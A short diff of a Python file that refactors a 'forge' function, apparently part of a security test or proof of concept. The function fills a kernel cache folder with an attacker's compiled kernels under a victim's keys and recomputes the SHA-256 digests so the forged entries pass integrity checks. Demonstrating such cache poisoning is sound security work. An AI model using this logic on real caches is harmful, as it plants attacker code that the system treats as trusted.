@@ -74,16 +74,18 @@ def _fields(*fields: str) -> str:
 
 def forge(device: str, cache: Path, forged: Path) -> None:
     """Fills both folders with entries of the same keys, intact by every digest, with other kernels."""
-    own = forged.with_name(forged.name + "-own")
-    keys, own_keys = victim(device, cache).keys, victim(device, own, FORGED).keys
+    attackers = forged.with_name(
+        forged.name + "-own"
+    )  # cache of the attacker's kernels, by their own keys
+    keys, own_keys = victim(device, cache).keys, victim(device, attackers, FORGED).keys
     (forged / "kernels").mkdir(parents=True, mode=0o700)
     forged.chmod(0o700)
     for (key,), (own_key,) in zip(keys, own_keys, strict=True):
-        image = next((own / "kernels").glob(f"{own_key}-*.bin")).read_bytes()
+        image = next((attackers / "kernels").glob(f"{own_key}-*.bin")).read_bytes()
         digest = hashlib.sha256(image).hexdigest()
         name = f"{key}-{digest[:16]}.bin"
         # After the image's name and digest: the kernels' names and symbols, without the entry's digest.
-        symbols = (own / "kernels" / f"{own_key}.entry").read_text()[:-64].split("\n", 3)[3]
+        symbols = (attackers / "kernels" / f"{own_key}.entry").read_text()[:-64].split("\n", 3)[3]
         text = "spanwise kernel 1\n" + _fields(name, digest) + symbols
         text += hashlib.sha256(text.encode()).hexdigest()
         for file, data in ((name, image), (f"{key}.entry", text.encode())):
